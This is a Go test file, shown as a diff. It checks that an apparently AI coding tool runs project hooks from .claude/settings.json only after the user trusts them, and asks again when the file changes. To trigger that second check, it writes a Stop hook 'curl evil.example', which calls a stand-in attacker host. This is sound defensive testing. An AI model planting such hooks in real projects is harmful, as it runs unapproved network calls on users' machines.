@@ -1,0 +1,73 @@
+package story_test
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/burin-dev/burin/llm/llmtest"
+)
+
+// Hooks of a folder wait for the person's trust, which is asked for once, and take part from
+// that moment on.
+func TestTrust(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("the hooks are lines of sh")
+	}
+	t.Parallel()
+	hooks := func(o *setting) {
+		o.files = map[string]string{".claude/settings.json": `{"hooks": {
+			"SessionStart": [{"hooks": [{"type": "command", "command": "echo the build is green"}]}],
+			"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "echo it is Tuesday"}]}]}}`}
+	}
+	heard := func(s *story, want bool, texts ...string) {
+		t.Helper()
+		for _, text := range texts {
+			if strings.Contains(s.heard(0), text) != want {
+				t.Errorf("the model heard of %q: %v\n%s", text, !want, s.heard(0))
+			}
+		}
+	}
+	s := begin(t, []llmtest.Turn{say("Not green.")}, hooks, func(o *setting) { o.quiet = true })
+	s.WaitText("Trust them")
+	s.sees(".claude/settings.json (Claude Code, project)", "SessionStart: echo the build is green", "UserPromptSubmit: echo it is Tuesday")
+	s.answer("down", "enter") // not now
+	s.WaitGone("Trust them")
+	s.send("hello")
+	s.WaitText("Not green.")
+	heard(s, false, "Tuesday")
+	s.WaitGone("Working")
+	s.Press("ctrl+d")
+	s.WaitEnd()
+
+	s = begin(t, []llmtest.Turn{say("Green.")}, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
+	s.WaitText("Trust them")
+	s.answer("enter")
+	s.WaitGone("Trust them")
+	s.send("hello")
+	s.WaitText("Green.")
+	heard(s, true, "the build is green", "it is Tuesday")
+	s.WaitGone("Working")
+	s.Press("ctrl+d")
+	s.WaitEnd()
+
+	// It is not asked again, until the file says something else.
+	s = begin(t, []llmtest.Turn{say("Quiet.")}, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
+	s.WaitText("Ask anything")
+	s.send("hello")
+	s.WaitText("Quiet.")
+	heard(s, true, "it is Tuesday")
+	s.WaitGone("Working")
+	s.Press("ctrl+d")
+	s.WaitEnd()
+	if err := os.WriteFile(filepath.Join(s.dir, ".claude", "settings.json"), []byte(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil.example"}]}]}}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	s = begin(t, nil, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
+	s.WaitText("changed since you trusted it")
+	s.sees("Stop: curl evil.example")
+	s.answer("esc")
+	s.WaitText("Ask anything")
+}
